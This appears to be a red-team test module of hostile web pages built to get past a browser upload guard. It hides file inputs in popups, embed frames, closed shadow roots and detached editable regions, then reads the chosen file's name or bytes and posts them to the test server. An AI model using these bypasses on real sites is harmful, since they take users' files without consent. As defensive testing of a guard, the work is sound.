// Hostile pages for the fifty-third attack on the upload guard: the guard's
// look at an undo/redo's own input event (guard.js onHistory: the unknown
// files of the file inputs in every same-origin document of the tab,
// sameOriginDocuments, and every shadow root met). Chromium's own picker is opened as in attacks 44-51's
// labeldeep (a span deep inside a DETACHED label holding a file input i,
// clicked in the person's click on "#open"); the label was taken out by
// execCommand('delete'), and undo puts the SAME nodes back into their old
// parent, wherever that parent now is. The page reads the name Chromium
// draws (attack 48's findsel). A name learnt goes up as a text note
// "leak-….txt". Served by server.mjs at /attack53-…; tests: attack53.test.mjs.

import { findsel, leak, movePick } from './attack52-pages.mjs';
import { attackPages, browsersOwnPick, pickerWaysPage } from './uploads.mjs';

// The setup (movePick) is attack 52's.

const HTML_WAYS = {
  // p moved, in the person's click (after the picker asked for), into the editable body of a same-origin POPUP
  // (window.open about:blank): undo in the top document puts the label back into p in the popup's document, which
  // is no frame of the tab (sameOriginDocuments climbs parents and walks frames, never an opened window).
  popup: movePick('popup', {
    onopen: "const w = window.open('', '_blank', 'width=800,height=300'); window.w53 = w; note('popup ' + !!w); if (w) { w.document.body.contentEditable = 'true'; w.document.body.append(p); note('p in popup ' + (p.ownerDocument === w.document)); }",
    after: "window.w53.document.body.contentEditable = 'false'; ce.contentEditable = 'false'; note('in popup ' + (i.ownerDocument === window.w53.document) + ' connected ' + i.isConnected);",
    find: findsel('popup').replace('window.find(', 'window.w53.find(').replace(/getSelection\(\)/g, 'window.w53.getSelection()'),
  }),
  // p moved into a same-origin frame made inside a closed shadow root (attachShadow, so met), for reference.
  closedframe: movePick('closedframe', {
    move: "const h = document.createElement('div'); document.body.append(h); const sr = h.attachShadow({ mode: 'closed' }); const fr = document.createElement('iframe'); fr.style.cssText = 'width:700px;height:80px'; sr.append(fr); window.fr53 = fr; fr.contentDocument.body.contentEditable = 'true'; fr.contentDocument.body.append(p);",
    after: "window.fr53.contentDocument.body.contentEditable = 'false'; ce.contentEditable = 'false';",
    find: findsel('closedframe').replace('window.find(', 'window.fr53.contentWindow.find(').replace(/getSelection\(\)/g, 'window.fr53.contentWindow.getSelection()'),
  }),
  // the bytes: popup, then the popup realm's own files getter on i (is the opened window's realm wrapped?).
  popupfiles: movePick('popupfiles', {
    onopen: "const w = window.open('', '_blank', 'width=800,height=300'); window.w53 = w; if (w) { w.document.body.contentEditable = 'true'; w.document.body.append(p); }",
    find: "const g = Object.getOwnPropertyDescriptor(window.w53.HTMLInputElement.prototype, 'files').get; const fl = g.call(i); const f0 = fl && fl[0]; note('popup getter ' + (f0 && f0.name) + ' ' + (f0 && f0.size)); if (f0 && f0.size) send([f0], 'popupfiles'); const fd = new window.w53.FormData(); note('same realm getter wrapped? ' + String(g).slice(0, 40));",
  }),
  // the bytes: popup with p inside a multipart form in the popup, posted by a native click on its submit button.
  popupbutton: movePick('popupbutton', {
    onopen: "const w = window.open('', '_blank', 'width=800,height=300'); window.w53 = w; if (w) { const d = w.document; const f = d.createElement('form'); f.method = 'post'; f.enctype = 'multipart/form-data'; f.action = location.origin + '/upload'; const b = d.createElement('div'); b.contentEditable = 'true'; const bt = d.createElement('button'); bt.type = 'submit'; bt.textContent = 'go'; f.append(b, bt); d.body.append(f); b.append(p); window.f53 = f; }",
    find: "note('in form ' + (i.form === window.f53)); window.f53.querySelector('button').click();",
  }),
  // p moved, in the person's click, into the editable body of a same-origin page shown by an EMBED element
  // (reached by window.frames): sameOriginDocuments walks 'iframe, frame, object' only.
  embedframe: movePick('embedframe', {
    setup: "const em = document.createElement('embed'); em.type = 'text/html'; em.src = '/drawing'; em.style.cssText = 'width:700px;height:120px;display:block'; document.body.append(em);",
    onopen: "const w = window.frames[0]; window.w53 = w; note('embed frame ' + !!w + ' ' + (w && w.location.href)); if (w) { w.document.body.contentEditable = 'true'; w.document.body.append(p); note('p in embed ' + (p.ownerDocument === w.document)); }",
    after: "window.w53.document.body.contentEditable = 'false'; ce.contentEditable = 'false'; note('in embed ' + (i.ownerDocument === window.w53.document) + ' connected ' + i.isConnected);",
    find: findsel('embedframe').replace('window.find(', 'window.w53.find(').replace(/getSelection\(\)/g, 'window.w53.getSelection()'),
  }),
  // p moved into a second contenteditable ce2; before undo the step's recorded root ce is taken OUT of the
  // document and the caret put in ce2: the undo's input event is fired at a detached ce, which no window listener hears.
  detachfocus: movePick('detachfocus', {
    move: "const ce2 = document.createElement('div'); ce2.id = 'ce2'; ce2.contentEditable = 'true'; ce2.style.width = '600px'; ce2.append('z'); document.body.append(ce2); ce2.append(p); window.ce253 = ce2;",
    before: "ce.remove(); window.ce253.focus(); const r3 = document.createRange(); r3.setStart(window.ce253.firstChild, 1); r3.collapse(true); getSelection().removeAllRanges(); getSelection().addRange(r3); ce.addEventListener('input', (e) => note('detached ce heard ' + e.inputType + ' trusted ' + e.isTrusted))",
    after: "window.ce253.contentEditable = 'false';",
  }),
  // detachfocus, but the undo run from a same-origin FRAME's editable (another document's execCommand).
  detachframe: movePick('detachframe', {
    setup: "const fr = document.createElement('iframe'); fr.style.cssText = 'width:700px;height:80px'; document.body.append(fr); window.fr53 = fr; fr.contentDocument.body.contentEditable = 'true'; fr.contentDocument.body.append('q');",
    move: "const ce2 = document.createElement('div'); ce2.contentEditable = 'true'; ce2.style.width = '600px'; document.body.append(ce2); ce2.append(p); window.ce253 = ce2;",
    before: "ce.remove(); window.fr53.contentWindow.focus(); window.fr53.contentDocument.body.focus()",
    undo: "window.fr53.contentDocument.execCommand('undo')",
    after: "window.ce253.contentEditable = 'false'; note('i in ce2 ' + window.ce253.contains(i));",
  }),
  // p moved, in the person's click, into the editable body of a frame G that sits in a CLOSED shadow root in a
  // same-origin frame F (/drawing, its own content scripts: the root is met by F's guard, not the top one's):
  // the top guard's sameOriginDocuments reaches F, but F's querySelectorAll does not enter the root.
  nestedframe: movePick('nestedframe', {
    setup: "const F = document.createElement('iframe'); F.src = '/drawing'; F.style.cssText = 'width:760px;height:200px;display:block'; document.body.append(F); window.F53 = F; F.addEventListener('load', () => { const d = F.contentDocument; const h = d.createElement('div'); d.body.prepend(h); const sr = h.attachShadow({ mode: 'closed' }); const G = d.createElement('iframe'); G.style.cssText = 'width:700px;height:80px'; sr.append(G); window.G53 = G; note('G ready ' + !!G.contentDocument); });",
    onopen: "const w = window.G53.contentWindow; window.w53 = w; w.document.body.contentEditable = 'true'; w.document.body.append(p); note('p in G ' + (p.ownerDocument === w.document));",
    after: "window.w53.document.body.contentEditable = 'false'; ce.contentEditable = 'false'; note('in G ' + (i.ownerDocument === window.w53.document) + ' connected ' + i.isConnected);",
    find: findsel('nestedframe').replace('window.find(', 'window.w53.find(').replace(/getSelection\(\)/g, 'window.w53.getSelection()'),
  }),
  findsel: browsersOwnPick(`document.body.replaceChildren(i); i.style.width = '600px'; ${findsel('findsel')}`, { before: leak }),
};
const { names: PICKER_WAYS, page: picker } = pickerWaysPage(HTML_WAYS);
export { PICKER_WAYS };
export const attack53Page = attackPages(53, picker, {});
